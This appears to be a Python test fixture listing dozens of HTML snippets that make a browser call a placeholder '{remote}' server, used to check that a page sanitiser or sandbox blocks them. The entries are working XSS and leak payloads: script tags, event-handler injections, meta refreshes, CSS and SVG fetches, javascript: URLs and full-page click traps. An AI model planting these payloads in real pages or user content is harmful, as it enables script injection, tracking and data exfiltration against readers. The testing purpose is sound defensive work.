"""HTML as hostile senders write it. `{remote}` is a server that must never hear of the reader.

`alone` says that a browser contacts it, or does what it should not, by itself when the page has no protection: the test
sees to it that each of these works on an ordinary page, so that what is shown to be held back is no dud. (Connecting
ahead is not alone, since the flags that keep the browser from calling home switch it off as well.)
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Trick:
    """One way. `clicked` ones need the reader to click anywhere."""

    name: str
    html: str
    alone: bool = True
    clicked: bool = False


_COVER = "position:fixed;inset:0;display:block;width:100%;height:100%"
_SVG = "http://www.w3.org/2000/svg"

TRICKS = (
    Trick("script", "<script>fetch('{remote}/script'); top.pwned = 1; document.title = 'pwned'</script>"),
    Trick("script from elsewhere", '<script src="{remote}/script.js"></script>'),
    Trick("module", '<script type="module" src="{remote}/module.js"></script>', alone=True),
    Trick(
        "script in svg", f"<svg xmlns='{_SVG}'><script>new Image().src='{{remote}}/svg'; top.pwned = 1</script></svg>"
    ),
    Trick("error handler", "<img src='nothing:x' onerror=\"new Image().src='{remote}/onerror'; top.pwned = 1\">"),
    Trick("load handler", "<body onload=\"new Image().src='{remote}/onload'; top.pwned = 1\">"),
    Trick("load handler of svg", "<svg onload=\"new Image().src='{remote}/svgload'; top.pwned = 1\"></svg>"),
    Trick("toggle handler", "<details open ontoggle=\"new Image().src='{remote}/toggle'; top.pwned = 1\">x</details>"),
    Trick("focus handler", "<input autofocus onfocus=\"new Image().src='{remote}/focus'; top.pwned = 1\">"),
    Trick(
        "animation handler",
        "<style>@keyframes a{{}}</style><b style='animation:a 1s' "
        "onanimationstart=\"new Image().src='{remote}/animation'; top.pwned = 1\">x</b>",
    ),
    Trick("refresh", '<meta http-equiv="refresh" content="0;url={remote}/refresh">'),
    Trick("refresh, oddly written", "<META/HTTP-EQUIV=refresh\tCONTENT='0; URL=\"{remote}/refresh2\"'>"),
    Trick("refresh to script", '<meta http-equiv=refresh content="0;url=javascript:top.pwned=1">', alone=False),
    Trick("base", '<base href="{remote}/base/"><img src="relative.png">'),
    Trick("preconnect", '<link rel="preconnect" href="{remote}">', alone=False),
    Trick(
        "preconnect inside of a comment that ends early", '<!--><link rel=preconnect href="{remote}">-->', alone=False
    ),
    Trick("preload", '<link rel="preload" as="image" href="{remote}/preload.png">'),
    Trick("prefetch", '<link rel="prefetch" href="{remote}/prefetch">'),
    Trick(
        "prefetch of a name",
        '<link rel="dns-prefetch" href="{remote}"><link rel=prerender href="{remote}/p">',
        alone=False,
    ),
    Trick("manifest and icon", '<link rel="icon" href="{remote}/i.png"><link rel="manifest" href="{remote}/m.json">'),
    Trick("stylesheet", '<link rel="stylesheet" href="{remote}/style.css">'),
    Trick("stylesheet in capitals", "<LINK\nREL=StyleSheet\nHREF='{remote}/STYLE.CSS'>"),
    Trick("import in a style", '<style>@import url("{remote}/import.css");</style>'),
    Trick("import without url", '<style>@import "{remote}/import2.css";</style>'),
    Trick("url in a style", "<style>body{{background:url({remote}/style.png)}}</style>"),
    Trick("url in an attribute", '<p style="background-image:url({remote}/attribute.png)">x</p>'),
    Trick("image set", "<p style='background-image:image-set(\"{remote}/set.png\" 1x)'>x</p>"),
    Trick("url with escapes", "<p style='background:u\\72l({remote}/escape.png)'>x</p>"),
    Trick("font", "<style>@font-face{{font-family:f;src:url({remote}/font.woff2)}} p{{font-family:f}}</style><p>x</p>"),
    Trick("cursor and list", "<ul style='list-style-image:url({remote}/list.png)'><li>x</ul>"),
    Trick("content", "<style>p::before{{content:url({remote}/content.png)}}</style><p>x</p>"),
    Trick("picture", '<img src="{remote}/picture.png">'),
    Trick(
        "set of pictures", '<img srcset="{remote}/set.png 1x"><picture><source srcset="{remote}/s.png"><img></picture>'
    ),
    Trick("background", '<table background="{remote}/background.png"><tr><td>x</table>'),
    Trick("body background", '<body background="{remote}/body.png">x'),
    Trick("button that is a picture", '<input type="image" src="{remote}/input.png">'),
    Trick("video", '<video src="{remote}/video.mp4" poster="{remote}/poster.png" autoplay muted></video>'),
    Trick("audio", '<audio src="{remote}/audio.mp3" autoplay></audio><video><track default src="{remote}/t"></video>'),
    Trick("picture in svg", f'<svg xmlns="{_SVG}"><image href="{{remote}}/image.png" width="9" height="9"/></svg>'),
    Trick("use in svg", f'<svg xmlns="{_SVG}"><use href="{{remote}}/use.svg#x"/></svg>', alone=False),
    Trick(
        "filter in svg",
        f'<svg xmlns="{_SVG}"><filter id=f><feImage href="{{remote}}/fe.png"/></filter>'
        '<rect width=9 height=9 filter="url(#f)"/></svg>',
    ),
    Trick(
        "html in svg",
        f'<svg xmlns="{_SVG}"><foreignObject width=9 height=9><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="{remote}/foreign"></iframe></foreignObject></svg>',
    ),
    Trick("frame", '<iframe src="{remote}/frame"></iframe>'),
    Trick("frame with a document", "<iframe srcdoc=\"<img src='{remote}/srcdoc.png'>\"></iframe>"),
    Trick("frame with script", "<iframe src=\"javascript:new Image().src='{remote}/js'\"></iframe>", alone=False),
    Trick("set of frames", '<frameset><frame src="{remote}/frameset"></frameset>'),
    Trick("object", '<object data="{remote}/object"></object>'),
    Trick("embed", '<embed src="{remote}/embed">'),
    Trick("data in a frame", "<iframe src=\"data:text/html,<img src='{remote}/data.png'>\"></iframe>"),
    Trick("markup that is repaired", "<svg><style><img src=\"</style><img src='{remote}/mutated.png'>\">"),
    Trick("markup in noscript", '<noscript><img src="{remote}/noscript.png"></noscript>', alone=False),
    Trick(
        "markup in a template",
        '<template shadowrootmode="open"><img src="{remote}/shadow.png"></template>',
        alone=False,
    ),
    Trick("nothing before the name", '<img/src="{remote}/slash.png"><\x00link rel=stylesheet href={remote}/null.css>'),
    Trick("stylesheet by an instruction", '<?xml-stylesheet href="{remote}/instruction.css"?><p>x', alone=False),
    Trick(
        "rules to speculate by",
        '<script type="speculationrules">{{"prefetch":[{{"urls":["{remote}/speculate"]}}]}}</script>',
        alone=False,
    ),
    Trick("link", f'<a href="{{remote}}/link" style="{_COVER}">x</a>', clicked=True),
    Trick("link to the top", f'<a target="_top" href="{{remote}}/top" style="{_COVER}">x</a>', clicked=True),
    Trick("link to the parent", f'<a target="_parent" href="{{remote}}/parent" style="{_COVER}">x</a>', clicked=True),
    Trick("link to a window", f'<a target="_blank" href="{{remote}}/blank" style="{_COVER}">x</a>', clicked=True),
    Trick("link with a ping", f'<a ping="{{remote}}/ping" href="#x" style="{_COVER}">x</a>', clicked=True),
    Trick("link that downloads", f'<a download href="{{remote}}/download" style="{_COVER}">x</a>', clicked=True),
    Trick(
        "link to a script",
        f'<a href="javascript:new Image().src=\'{{remote}}/click\';void(top.pwned=1)" style="{_COVER}">x</a>',
        clicked=True,
    ),
    Trick(
        "link to data",
        f'<a href="data:text/html,<img src={{remote}}/d>" style="{_COVER}">x</a>',
        alone=False,
        clicked=True,
    ),
    Trick(
        "link in svg",
        f'<svg xmlns="{_SVG}" style="{_COVER}"><a href="{{remote}}/svglink" target="_top">'
        '<rect width="100%" height="100%"/></a></svg>',
        clicked=True,
    ),
    Trick(
        "area",
        f'<img src="data:," style="{_COVER}" usemap="#m" width=800 height=600><map name=m><area shape=default '
        'target=_top href="{remote}/area"></map>',
        clicked=True,
    ),
    Trick(
        "form", f'<form action="{{remote}}/form" target="_top"><button style="{_COVER}">x</button></form>', clicked=True
    ),
    Trick(
        "form of another button",
        f'<form id=f></form><button form=f formaction="{{remote}}/formaction" style="{_COVER}">x</button>',
        clicked=True,
    ),
    Trick(
        "click handler",
        f'<p style="{_COVER}" onclick="new Image().src=\'{{remote}}/onclick\'; top.pwned = 1">x</p>',
        clicked=True,
    ),
    Trick(
        "window of the name of ours", f'<a target="main" href="{{remote}}/named" style="{_COVER}">x</a>', clicked=True
    ),
)
